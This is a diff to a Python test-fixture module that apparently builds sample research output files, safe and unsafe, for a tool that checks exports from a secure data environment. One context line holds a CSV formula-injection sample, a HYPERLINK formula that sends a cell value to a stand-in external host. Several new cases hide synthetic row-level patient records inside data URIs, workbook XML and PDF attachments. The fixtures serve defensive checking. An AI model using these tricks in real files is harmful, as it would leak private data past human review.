@@ -31,7 +31,7 @@ def _records(rng: np.random.Generator, count: int = 60) -> str:
     return formats.csv(head, people.records(rng, count))
 
 
-# ---- unsafe: PDF ----------------------------------------------------------------------
+# ---- unsafe: PDF -------------------------------------------------------------------
 
 
 @lane.unsafe("pdf-scan", "scan-pixels", "report.pdf", at="page 2")
@@ -219,7 +219,7 @@ def _(rng):
     return pictures.rendered(plots.waterfall(rng), "pdf")
 
 
-# ---- unsafe: web pages and drawings ---------------------------------------------------
+# ---- unsafe: web pages and drawings ------------------------------------------------
 
 
 @lane.unsafe("html-script", "active-content", "report.html")
@@ -409,7 +409,7 @@ def _(rng):
     )
 
 
-# ---- unsafe: workbooks ----------------------------------------------------------------
+# ---- unsafe: workbooks -------------------------------------------------------------
 
 GOOD = {"Table 1": [["stage", "n"], ["I", 150], ["II", 141], ["III-IV", 121]]}
 
@@ -484,7 +484,7 @@ def _(rng):
     return 'stage,n\nI,150\n"=HYPERLINK(""https://x.example.net/?""&B2,""II"")",141\n'
 
 
-# ---- unsafe: scanner and analysis files, under whatever name --------------------------
+# ---- unsafe: scanner and analysis files, under whatever name -----------------------
 
 
 def _nifti(volume: np.ndarray) -> bytes:
@@ -563,7 +563,7 @@ for _name, (_file, _make) in RAW.items():
     )(lambda rng, make: make())
 
 
-# ---- unsafe: archives, disguises ------------------------------------------------------
+# ---- unsafe: archives, disguises ---------------------------------------------------
 
 
 @lane.unsafe("zip-of-dicom", "archive", "results.zip", also=("raw-image",))
@@ -683,7 +683,7 @@ def _(rng):
     )
 
 
-# ---- safe -------------------------------------------------------------------------
+# ---- safe ----------------------------------------------------------------------
 
 for _name in ("roc", "loss", "forest", "boxes", "survival", "correlation", "calibration", "bars"):
     lane.safe(f"pdf-{_name}", f"{_name}.pdf", _name)(
@@ -837,3 +837,138 @@ def _(rng):
         "figure1.svg": pictures.rendered(plots.forest(rng), "svg"),
         "methods.md": "CT at 120 kVp; 412 patients; 5 folds.\n",
     }
+
+
+# ---- more files within files, and more that is plain -------------------------------------------
+
+
+@lane.unsafe("html-download", "embedded-file", "results.html", also=("encoded-blob",))
+def _(rng):
+    uri = pictures.data_uri(_records(rng).encode(), "text/csv")
+    return formats.html(
+        ["stage", "n"],
+        [["I", 150], ["II", 141]],
+        body=f"<a download='d.csv' href='{uri}'>data</a>\n",
+    )
+
+
+@lane.unsafe(
+    "xlsx-custom-xml",
+    "embedded-file",
+    "table.xlsx",
+    also=("hidden-parts", "row-level-data", "hidden-content"),
+)
+def _(rng):
+    rows = "".join(
+        f"<p age='{a}' sex='{s}' v='{v}'/>" for a, s, _, _, v, *_ in people.records(rng, 70)
+    )
+    return formats.settled(formats.xlsx(GOOD), {"customXml/item1.xml": f"<d>{rows}</d>"})
+
+
+@lane.unsafe("pdf-portfolio", "embedded-file", "supplement.pdf", also=("active-content",))
+def _(rng):
+    book = formats.xlsx({"raw": [list("abcdefg"), *people.records(rng, 50)]})
+    names = (
+        "/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(raw.xlsx) 100 0 R] >> >>"
+    )
+    return paper.pdf(
+        [["This portfolio holds 1 file."]],
+        catalogue=names,
+        objects={
+            100: b"<< /Type /Filespec /F (raw.xlsx) /UF (raw.xlsx) /EF << /F 101 0 R >> >>",
+            101: paper.stream(book, "/Type /EmbeddedFile"),
+        },
+    )
+
+
+@lane.unsafe(
+    "svg-data-link",
+    "embedded-file",
+    "figure.svg",
+    also=("encoded-blob", "external-reference", "hidden-content"),
+)
+def _(rng):
+    uri = pictures.data_uri(_records(rng).encode(), "text/csv")
+    return _svg(f'<a xlink:href="{uri}"><text x="9" y="9">source data</text></a>')
+
+
+@lane.unsafe(
+    "paper-with-scan",
+    "scan-pixels",
+    ("table1.csv", "figure1.pdf", "figure2.pdf"),
+    path="figure2.pdf",
+    at="page 1",
+)
+def _(rng):
+    drawn, axes = pictures.figure()
+    axes.imshow(sources.shown("mr-overlay"), cmap="gray")
+    return {
+        "table1.csv": formats.csv(["stage", "n"], [["I", 150], ["II", 141]]),
+        "figure1.pdf": pictures.rendered(plots.roc(rng), "pdf"),
+        "figure2.pdf": pictures.rendered(drawn, "pdf"),
+    }
+
+
+@lane.safe("pdf-many-pages", "appendix.pdf")
+def _(rng):
+    pages = [
+        [
+            f"Appendix {n}",
+            f"Table A{n}. Settings of run {n}",
+            "epochs: 40",
+            "folds: 5",
+            f"seed: {n}",
+            "batch size: 2",
+        ]
+        for n in range(1, 9)
+    ]
+    return paper.pdf(pages)
+
+
+@lane.safe("pdf-confusion", "confusion.pdf")
+def _(rng):
+    return pictures.rendered(plots.confusion(rng), "pdf")
+
+
+@lane.safe("pdf-attention", "attention.pdf")
+def _(rng):
+    return pictures.rendered(plots.attention(rng), "pdf")
+
+
+@lane.safe("svg-attention", "attention.svg")
+def _(rng):
+    return pictures.rendered(plots.attention(rng), "svg")
+
+
+@lane.safe("svg-hexbin", "hexbin.svg")
+def _(rng):
+    return pictures.rendered(plots.hexbin(rng), "svg")
+
+
+@lane.safe("html-two-tables", "supplement.html", policy="opensafely")
+def _(rng):
+    more = (
+        "<table><tr><th>region</th><th>women</th></tr><tr><td>North</td><td>310</td></tr>"
+        "<tr><td>South</td><td>245</td></tr></table>\n"
+    )
+    return formats.html(["age", "women"], [["40-49", 150], ["50+", 405]], "Screening", more)
+
+
+@lane.safe("html-toc", "manual.html")
+def _(rng):
+    return formats.html(
+        ["chapter", "page"],
+        [[1, 3], [2, 7], [3, 9]],
+        body="<p>Open <a href='#c2'>chapter 2</a>.</p><h2 id='c2'>2</h2>\n",
+    )
+
+
+@lane.safe("xlsx-several", "supplement.xlsx")
+def _(rng):
+    return formats.xlsx(
+        {
+            "S1 cohort": [["stage", "n"], ["I", 150], ["II", 141], ["III-IV", 121]],
+            "S2 settings": [["parameter", "value"], ["epochs", 40], ["folds", 5], ["depth", 4]],
+            "S3 features": [["family", "features"], ["shape", 14], ["GLCM", 24], ["NGTDM", 5]],
+        }
+    )
